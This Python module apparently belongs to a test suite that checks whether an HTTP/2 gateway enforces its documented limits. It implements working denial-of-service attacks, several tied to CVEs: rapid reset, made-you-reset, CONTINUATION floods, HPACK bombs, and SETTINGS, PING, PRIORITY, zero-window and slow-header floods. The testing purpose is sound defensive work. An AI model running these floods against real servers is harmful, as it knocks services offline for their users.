"""The attacks. Each is a function that plays one connection, and what may end it.

The numbers of the limits are those of docs/limits.md.
"""

import asyncio
import dataclasses
import itertools
import typing

from wire import FRAMES, GET, POST, headers, h2_client, raw, request, settings, window

CALM = "GOAWAY ENHANCE_YOUR_CALM"
REFUSED = "RST_STREAM REFUSED_STREAM"
PATIENCE = 1000
BATCH = 50  # turns that are sent at once


@dataclasses.dataclass
class Attack:
    name: str
    play: typing.Callable
    # The ends that a rule of docs/limits.md or of the RFC gives it.
    ends: tuple
    # Connections, one after the other, of each attacker.
    rounds: int = 5
    reads: bool = True
    # SETTINGS instead of empty ones.
    beginning: bytes = None
    # The time after which the rule must have ended it, in seconds.
    patience: float = 20
    # Whether it is mostly waiting. Such attacks are played side by side.
    waits: bool = False
    # How many requests or frames the gateway took, where its frames tell; the most, by its rule,
    # and 100 more for each second.
    taken: typing.Callable = None
    # Whether the gateway ends it. Other attacks end by themselves, after a bounded number.
    settles: bool = True
    most: int = None


ALL = []
_numbers = itertools.count()


def attack(name, *ends, **options):
    def add(play):
        ALL.append(Attack(name, play, ends, **options))
        return play

    return add


def slow_path():
    """A request that the origin works on for a while, and that is never stored before."""
    return f"/slow?milliseconds=300&n={next(_numbers)}"


async def flood(connection, turn, count=6000, frames=1):
    """Sends turns until the connection ends."""
    for first in range(0, count, BATCH):
        if connection.closed.is_set() or connection.goaway:
            return
        data = b"".join(turn(2 * number + 1) for number in range(first, first + BATCH))
        await connection.send(data, BATCH * frames)
        await asyncio.sleep(0)


async def answered(connection, count):
    """Waits for the responses, which may be refusals."""
    for _ in range(400):
        if connection.kinds[1] + connection.kinds[3] >= count or connection.closed.is_set() or connection.goaway:
            return
        await asyncio.sleep(0.05)


def requests_taken(connection):
    return (connection.goaway[1] + 1) // 2 if connection.goaway else 0


@attack("no attack: 3,000 requests at a time", "open", REFUSED, settles=False, rounds=2)
async def no_attack(connection):
    """As many as the connections may send, to compare with."""
    await connection.send(b"".join(headers(2 * n + 1, request(slow_path())) for n in range(100)), 100)
    await answered(connection, 100)


# Of 1,000 points a reset takes 5, and 1 if no place was left for the request. 100 come back in a
# second.
RESETS = {"taken": requests_taken, "most": PATIENCE}


@attack("rapid reset", CALM, **RESETS)
async def rapid_reset(connection):
    """CVE-2023-44487, with the client of the package h2."""
    client = h2_client()
    for _ in range(600):
        stream = client.get_next_available_stream_id()
        client.send_headers(stream, [*GET, (":path", slow_path())], end_stream=True)
        client.reset_stream(stream, 8)
        if stream % 20 == 19:
            await connection.send(client.data_to_send(), 20)
            if connection.goaway:
                return


@attack("rapid reset of uploads", CALM, **RESETS)
async def rapid_reset_of_uploads(connection):
    block = request("/upload", "POST")
    await flood(connection, lambda s: headers(s, block, ends=False) + raw(3, 0, s, b"\0\0\0\x08"), frames=2)


def provoke(name, second, *ends, ends_stream=True, fields=()):
    """CVE-2025-8671: the gateway is made to reset the stream, instead of the client."""

    @attack(f"made you reset: {name}", *ends, **RESETS)
    async def play(connection):
        await flood(connection, lambda s: headers(s, request(slow_path(), fields=fields), ends_stream) + second(s), frames=2)


provoke("window + 0", lambda s: window(s, 0), CALM, "GOAWAY PROTOCOL_ERROR")
provoke("window over 2^31-1", lambda s: window(s, 0x7FFFFFFF), CALM)
provoke("DATA on half-closed", lambda s: raw(0, 0, s, b"a"), CALM, "GOAWAY STREAM_CLOSED")
provoke("HEADERS on half-closed", lambda s: headers(s, request("/")), CALM, "GOAWAY STREAM_CLOSED")
provoke("PRIORITY of 4 bytes", lambda s: raw(2, 0, s, b"\0\0\0\0"), CALM, "GOAWAY FRAME_SIZE_ERROR")
provoke("PRIORITY on itself", lambda s: raw(2, 0, s, s.to_bytes(4, "big") + b"\0"), CALM, "GOAWAY PROTOCOL_ERROR")
provoke("trailers without END_STREAM", lambda s: headers(s, b"", ends=False), CALM, "GOAWAY PROTOCOL_ERROR", ends_stream=False)
provoke("content beyond its length", lambda s: raw(0, 1, s, b"too much"), CALM, ends_stream=False, fields=[("content-length", "3")])


@attack("malformed requests", CALM, **RESETS)
async def malformed(connection):
    block = request("/", fields=[("connection", "close")])
    await flood(connection, lambda s: headers(s, block))


@attack("requests beyond the places", CALM, REFUSED, taken=requests_taken, most=2 * PATIENCE)
async def beyond_streams(connection):
    await flood(connection, lambda s: headers(s, request(slow_path())))


@attack("CONTINUATION, a field each", CALM, "GOAWAY INTERNAL_ERROR", "GOAWAY PROTOCOL_ERROR")
async def continuations(connection):
    """CVE-2024-27316"""
    await connection.send(raw(1, 1, 1, request("/")), 1)
    await flood(connection, lambda _: raw(9, 0, 1, b"\0\x01a\x01b"), 3000)


@attack("CONTINUATION, empty", CALM, "GOAWAY INTERNAL_ERROR", "GOAWAY PROTOCOL_ERROR")
async def empty_continuations(connection):
    await connection.send(raw(1, 1, 1, request("/")), 1)
    await flood(connection, lambda _: raw(9, 0, 1), 3000)


@attack("CONTINUATION, 16 KiB each", CALM, "closed", "GOAWAY INTERNAL_ERROR", "GOAWAY PROTOCOL_ERROR")
async def large_continuations(connection):
    await connection.send(raw(1, 1, 1, request("/")), 1)
    more = raw(9, 0, 1, (b"\0\x01a\x7f\x01" + b"b" * 128) * 120)
    await flood(connection, lambda _: more, 500)


@attack("HPACK bomb", CALM, "status 431", taken=requests_taken)
async def bomb(connection):
    """One field of 4,000 bytes in the table, named by one byte each: 16 KB are 64 MB."""
    first = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    await connection.send(headers(1, request("/") + first + b"\xbe" * 12000), 1)
    await connection.wait(5)


@attack("HPACK bombs below the limit", CALM, taken=requests_taken, most=PATIENCE // 5)
async def small_bombs(connection):
    """70 fields of 4,000 bytes in as many bytes: each request is refused, and the connection goes on."""
    first = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    await flood(connection, lambda s: headers(s, request("/") + (first if s == 1 else b"") + b"\xbe" * 70), 1000)


@attack("table sizes in blocks", "open", settles=False, taken=lambda c: c.kinds[1], rounds=2)
async def table_sizes(connection):
    """The table is emptied and filled, 3,000 times in each request."""
    block = b"\x20\x3f\xe1\x1f" * 3000 + request("/respond?body=same&field=Cache-Control:max-age%3D3600")
    await flood(connection, lambda s: headers(s, block), 100)
    await answered(connection, 100)


@attack("table sizes in SETTINGS", CALM, taken=lambda c: c.kinds[4], most=PATIENCE)
async def table_size_settings(connection):
    sizes = (settings(HEADER_TABLE_SIZE=0), settings(HEADER_TABLE_SIZE=0xFFFFFFFF))
    await flood(connection, lambda s: sizes[s // 2 % 2])


ACKS = {"most": PATIENCE}


@attack("SETTINGS", CALM, taken=lambda c: c.kinds[4], **ACKS)
async def many_settings(connection):
    """CVE-2019-9515"""
    await flood(connection, lambda _: settings())


@attack("PING", CALM, taken=lambda c: c.kinds[6], **ACKS)
async def pings(connection):
    """CVE-2019-9512"""
    ping = FRAMES.PingFrame(0, b"12345678").serialize()
    await flood(connection, lambda _: ping)


@attack("PING, and nothing is read", CALM, "closed", reads=False)
async def unread_pings(connection):
    await flood(connection, lambda _: FRAMES.PingFrame(0, b"12345678").serialize(), 4000)


@attack("DATA without content", CALM)
async def empty_data(connection):
    """CVE-2019-9518"""
    await connection.send(headers(1, request("/upload", "POST"), ends=False), 1)
    await flood(connection, lambda _: FRAMES.DataFrame(1).serialize())


@attack("DATA of padding", "status 408", "RST_STREAM NO_ERROR", rounds=1, patience=30, waits=True)
async def padding(connection):
    await connection.send(headers(1, request("/upload", "POST"), ends=False), 1)
    await flood(connection, lambda _: raw(0, 0x8, 1, b"\xff" + b"\0" * 255), 240, frames=0)


@attack("PRIORITY", CALM)
async def priorities(connection):
    """CVE-2019-9513: a tree that is shuffled again and again."""
    frames = [FRAMES.PriorityFrame(s, depends_on=s + 2, exclusive=True, stream_weight=9).serialize() for s in range(1, 200, 2)]
    await flood(connection, lambda s: frames[s // 2 % len(frames)])


@attack("WINDOW_UPDATE", CALM)
async def windows(connection):
    await flood(connection, lambda _: window(0, 1))


@attack("frames of unknown types", "open", settles=False)
async def unknown(connection):
    """They are passed over like other bytes."""
    frames = raw(0xBA, 0, 0) * 100
    await flood(connection, lambda _: frames, 1000, frames=100)
    # The answer to a ping says that all of them were read.
    await connection.send(FRAMES.PingFrame(0, b"12345678").serialize(), 1)
    while not connection.kinds[6] and not connection.closed.is_set():
        await asyncio.sleep(0.02)


@attack("one-byte windows", CALM, "RST_STREAM CANCEL", REFUSED, beginning=settings(INITIAL_WINDOW_SIZE=1), rounds=1, patience=90, waits=True)
async def tiny_windows(connection):
    """CVE-2019-9511: 20 streams of a large body, whose windows open by one byte."""
    streams = range(1, 41, 2)
    for stream in streams:
        await connection.send(headers(stream, request("/bytes/1000000?n=windows")), 1)
    data = b"".join(window(stream, 1) for stream in streams)
    for _ in range(300):
        if connection.closed.is_set() or connection.goaway:
            return
        await connection.send(data, len(streams))
        await asyncio.sleep(0.01)


async def ask_much(connection):
    client = h2_client()
    for _ in range(100):
        stream = client.get_next_available_stream_id()
        client.send_headers(stream, [*GET, (":path", "/bytes/1000000?n=windows")], end_stream=True)
    await connection.send(client.data_to_send(), 100)


# 60 s to read more, and up to 5 s until that is looked at.
READING = {"rounds": 1, "patience": 80, "waits": True}


@attack("closed windows", "RST_STREAM CANCEL", REFUSED, beginning=settings(INITIAL_WINDOW_SIZE=0), **READING)
async def closed_windows(connection):
    await ask_much(connection)


@attack("open windows, and nothing is read", "closed", CALM, "open", "RST_STREAM CANCEL", REFUSED,
        beginning=settings(INITIAL_WINDOW_SIZE=0x7FFFFFFF) + window(0, 0x7FFF0000 - 65535), reads=False, **READING)  # fmt: skip
async def unread(connection):
    """CVE-2019-9517"""
    await ask_much(connection)
    await asyncio.sleep(75)


@attack("a head byte by byte", CALM, rounds=1, patience=60, waits=True)
async def slow_head(connection):
    """30 s are for a head."""
    block = request("/", fields=[("a", "b" * 100)])
    for byte in headers(1, block):
        if connection.closed.is_set():
            return
        await connection.send(bytes([byte]), 0)
        await asyncio.sleep(0.5)


@attack("requests without content or end", "status 408", "RST_STREAM NO_ERROR", REFUSED, rounds=1, patience=30, waits=True, taken=lambda c: sum(c.statuses.values()))
async def idle_streams(connection):
    """100 streams at a time. 'timeouts.client' is 5 s here."""
    client = h2_client()
    for _ in range(100):
        stream = client.get_next_available_stream_id()
        client.send_headers(stream, [*POST, (":path", "/upload")])
    await connection.send(client.data_to_send(), 100)


@attack("uploads that stop", "status 408", "RST_STREAM NO_ERROR", REFUSED, rounds=1, patience=30, waits=True, taken=lambda c: sum(c.statuses.values()))
async def stopped_uploads(connection):
    client = h2_client()
    for _ in range(50):
        stream = client.get_next_available_stream_id()
        client.send_headers(stream, [*POST, (":path", "/upload"), ("content-length", "1000000")])
        client.send_data(stream, b"a" * 1000)
    await connection.send(client.data_to_send(), 50)


@attack("connections without a request", "GOAWAY NO_ERROR", "closed", rounds=1, patience=80, waits=True)
async def idle_connections(connection):
    """60 s are for the next request."""
